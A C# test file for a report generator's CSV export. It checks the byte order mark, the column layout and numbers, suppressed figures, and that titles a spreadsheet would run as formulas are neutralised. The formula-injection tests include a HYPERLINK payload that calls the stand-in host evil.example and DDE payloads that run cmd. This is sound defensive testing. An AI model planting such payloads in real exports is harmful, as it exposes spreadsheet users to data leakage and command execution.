using System.Globalization;
using System.Text;
using CsvHelper;

namespace ReportGen.Pipeline.Tests;

/// <summary>
/// <c>csv</c> writes results.csv, one row per indicator, for spreadsheets; a cell that a spreadsheet would run as
/// a formula never reaches it as one.
/// </summary>
public sealed class ResultsCsvTests
{
    private static List<string[]> Rows(string path)
    {
        var bytes = File.ReadAllBytes(path);
        Assert.That(bytes.AsSpan(0, 3).ToArray(), Is.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }), "a byte order mark, so that Excel reads UTF-8");
        using var reader = CsvReader.Create(bytes[3..], CsvReaderOptions.Default with { HasHeader = false });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i) ?? string.Empty).ToArray());
        }

        return rows;
    }

    private static string BuildCsv(string project)
    {
        var file = Path.Combine(project, "reportgen.yaml");
        File.WriteAllText(file, File.ReadAllText(file).Replace("formats: [pdf, docx, json]", "formats: [json, csv]", StringComparison.Ordinal));
        var (exitCode, _, error) = CommandLine.Run(["build", "--quarter", "Q3", "--project", project]);
        Assert.That(exitCode, Is.Zero, error);
        return Path.Combine(project, "out", "results.csv");
    }

    [Test]
    public void Each_indicator_is_a_row_with_the_figures_of_results_json_as_numbers()
    {
        using var folder = new TempFolder();
        var project = Path.Combine(folder.Path, "project");
        BadInputCase.CopyFolder(BadInputCase.Baseline, project);

        var rows = Rows(BuildCsv(project));

        Assert.That(rows[0], Is.EqualTo(new[]
        {
            "id", "title", "unit", "period", "periodValue", "previousPeriodValue", "samePeriodLastYearValue",
            "ytdValue", "ytdLastYearValue", "ytdChangePercent", "target", "rag", "dotShort", "dotLong",
        }));
        Assert.That(rows.Skip(1).Select(r => r[0]), Is.EqualTo(new[] { "CSP1", "CSP2" }));
        var tno = rows[1];
        Assert.That(tno[1..4], Is.EqualTo(new[] { "Total notifiable offences", "count", "2016/17 Q3" }));
        Assert.That(tno[4..9], Is.EqualTo(new[] { "4100", "4090", "4520", "12288", "12573" }));
        // A fall is a negative number, and stays a number: only text is protected against formulas.
        Assert.That(decimal.Parse(tno[9], NumberStyles.Float, CultureInfo.InvariantCulture), Is.EqualTo((12288m - 12573m) / 12573m * 100).Within(1e-20m));
        Assert.That(tno[10..], Is.EqualTo(new[] { "12375", "Green", "worse", "better" }));
        Assert.That(rows[2][10], Is.Empty, "no target is an empty cell");
    }

    [TestCase("=HYPERLINK(\"http://evil.example\",\"Click for details\")")] // the classic: a link that leaks data when clicked
    [TestCase("+cmd|' /C calc'!A0")] // DDE through a leading +
    [TestCase("-2+3+cmd|' /C calc'!A0")] // and through a leading -
    [TestCase("@SUM(1+1)*cmd|' /C calc'!A0")] // Lotus-style @ functions
    public void A_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string title)
    {
        using var folder = new TempFolder();
        var project = Path.Combine(folder.Path, "project");
        BadInputCase.CopyFolder(BadInputCase.Baseline, project);
        var definitions = Path.Combine(project, "indicators", "safe.yaml");
        var quoted = "'" + title.Replace("'", "''", StringComparison.Ordinal) + "'";
        File.WriteAllText(definitions, File.ReadAllText(definitions).Replace("title: Total notifiable offences", $"title: {quoted}", StringComparison.Ordinal));

        var path = BuildCsv(project);
        var cell = Rows(path)[1][1];

        Assert.That(cell, Is.EqualTo("'" + title), "a leading ' makes a spreadsheet show the cell as text");
        var raw = Encoding.UTF8.GetString(File.ReadAllBytes(path));
        Assert.That(raw, Does.Contain(",\"'" + title.Replace("\"", "\"\"", StringComparison.Ordinal) + "\","), "quoted, behind the '");
        Assert.That(raw, Does.Not.Contain("," + title[..4]), "never bare after a separator");
    }

    [Test]
    public void A_suppressed_figure_and_what_was_withheld_with_it_are_c()
    {
        using var folder = new TempFolder();
        var rows = Rows(BuildCsv(folder.CopyOf("safer-communities")));
        var homicide = rows.Single(r => r[0] == "HOM");
        Assert.That(homicide[7], Is.EqualTo("[c]"), "ytdValue");
        Assert.That(homicide[11], Is.EqualTo("[c]"), "rag");
        Assert.That(homicide[4], Is.EqualTo("0"), "a zero is shown");
    }
}
